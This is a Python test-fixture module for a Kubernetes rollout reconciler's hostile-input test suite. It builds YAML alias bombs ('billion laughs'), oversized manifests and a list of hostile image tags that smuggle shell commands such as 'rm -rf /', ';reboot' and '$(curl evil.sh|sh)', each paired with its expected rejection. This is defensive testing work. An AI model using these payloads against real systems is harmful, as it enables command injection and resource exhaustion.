"""The hostile-input corpus of issue 5 ("Prove it survives"): what a person, a broken
tool or an attacker can put in front of the reconciler, and what it must answer.

Every case is data, and a test each. Three surfaces, a module of cases and one of
tests each:

* hostilerepo.py, ``RepoCase``: a commit a person pushes to the config repository
  (sample-repo/ plus the case's files, symlinks or hand-crafted tree entries);
  test_hostile_repository.py.
* hostilecluster.py, ``ClusterCase``: objects in the cluster: Rollouts with wrong
  types, Rollout statuses of the wrong shape, ImagePolicy statuses of the wrong shape
  or with hostile tags; test_hostile_cluster.py.
* hostilehttp.py, ``HttpCase``: raw bytes on a socket to the webhook server;
  test_hostile_webhooks.py.

test_hostile_daemon.py puts many of them in front of the daemon at once.

This module holds what they share: sample-repo's paths, the building blocks of
hostile manifests, and the hostile tags every surface is offered.
"""

from __future__ import annotations

import json
from dataclasses import dataclass
from pathlib import Path

ROOT = Path(__file__).resolve().parents[2]
SAMPLE = ROOT / "sample-repo"
APPS = "clusters/production/apps.yaml"
PODINFO_ROLLOUT = "apps/podinfo/rollout.yaml"
FRONTEND_OCI = "apps/frontend/ocirepository.yaml"
MiB = 1024 * 1024


def sample(path: str) -> bytes:
    return (SAMPLE / path).read_bytes()


def edit(path: str, old: bytes, new: bytes) -> bytes:
    data = sample(path)
    assert data.count(old) == 1, (path, old)
    return data.replace(old, new)


# -- building blocks ---------------------------------------------------------------------

def rollout(name: str, spec: str = "  releasesImagePolicy:\n    name: podinfo\n", *,
            head: str = "") -> bytes:
    """A Rollout manifest in namespace apps; ``spec`` is the indented body of spec."""
    return (f"{head}apiVersion: kuberik.com/v1alpha1\nkind: Rollout\nmetadata:\n"
            f"  name: {name}\n  namespace: apps\nspec:\n{spec}").encode()


def kustomization(name: str, annotations: str, substitute: str,
                  namespace: str = "apps") -> bytes:
    """A Flux Kustomization with ``annotations`` and ``substitute`` (indented bodies)."""
    return (f"apiVersion: kustomize.toolkit.fluxcd.io/v1\nkind: Kustomization\nmetadata:\n"
            f"  name: {name}\n  namespace: {namespace}\n  annotations:\n{annotations}"
            f"spec:\n  interval: 5m\n  path: ./apps/{name}\n  postBuild:\n"
            f"    substitute:\n{substitute}").encode()


def lol_bomb(levels: int = 12, width: int = 9) -> bytes:
    """The billion laughs: ``width ** levels`` strings from a few hundred bytes."""
    lines = ['# kuberik.com', 'a0: &a0 ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    for i in range(1, levels):
        lines.append(f"a{i}: &a{i} [" + ", ".join([f"*a{i - 1}"] * width) + "]")
    return ("\n".join(lines) + "\n").encode()


def spread_bomb(documents: int = 200) -> bytes:
    """Aliases expanding to about 77,000 nodes per document, each document under a
    per-document budget. While the budget was per document, these 34 KB cost about
    300 MB and 7 s, and 10 MB of them would have wanted some 90 GB."""
    one = (b"---\na: &a [x,x,x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a,*a]\n"
           b"c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b,*b]\nd: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]\n"
           b"e: [*d,*d,*d,*d,*d,*d,*d]\n")
    return b"# kuberik.com\n" + one * documents


def big_configmap(size: int, *, parsed: bool = False) -> bytes:
    """A ConfigMap of about ``size`` bytes of ordinary keys and values; ``parsed``: it
    names kuberik.com, so the scanner has to parse it (not only screen it out)."""
    head = (b"apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: big\n  namespace: apps\n"
            + (b"  labels: {owner: rollout.kuberik.com}\n" if parsed else b"") + b"data:\n")
    line = b"  k%07d: " + b"v" * 80 + b"\n"
    count = (size - len(head)) // len(line % 0)
    return head + b"".join(line % i for i in range(count))


def tiny_nodes(size: int) -> bytes:
    """``size`` bytes of one-character flow items: the most nodes per byte YAML allows."""
    return b"# kuberik.com\nitems: [" + b"1," * ((size - 30) // 2) + b"1]\n"


# -- hostile tags ------------------------------------------------------------------------

@dataclass(frozen=True)
class Tag:
    name: str
    value: str
    why: str  # fragment of the refusal (versions.parse)

    @property
    def shown(self) -> str:
        text = repr(self.value)
        return text if len(text) <= 32 else text[:28] + "...'"


HOSTILE_TAGS: tuple[Tag, ...] = (
    Tag("newline", "6.5.0\nrm -rf /", "'\\n' at position 6 is not allowed"),
    Tag("double-quote", '6.5.0"; echo pwned; "', "'\"' at position 6 is not allowed"),
    Tag("single-quote", "6.5.0'", "\"'\" at position 6 is not allowed"),
    Tag("hash", "6.5.0 # comment", "' ' at position 6 is not allowed"),
    Tag("spaces", " 6.5.0 ", "must start with a letter, digit or '_', not ' '"),
    Tag("shell", "$(curl evil.sh|sh)", "must start with a letter, digit or '_', not '$'"),
    Tag("backticks", "6.5.0`id`", "'`' at position 6 is not allowed"),
    Tag("semicolon", "6.5.0;reboot", "';' at position 6 is not allowed"),
    Tag("unicode-digits", "\uff16.\uff15.\uff10", "not '\uff16'"),
    Tag("bidi-override", "6.5.0\u202e1.0", "'\\u202e' at position 6 is not allowed"),
    Tag("nul", "6.5.0\x00", "'\\x00' at position 6 is not allowed"),
    Tag("too-long", "6.5.0-" + "a" * 300, "at most 128"),
)


def yaml_string(value: str) -> str:
    """``value`` as a YAML double-quoted scalar (JSON escapes are valid YAML)."""
    return json.dumps(value)
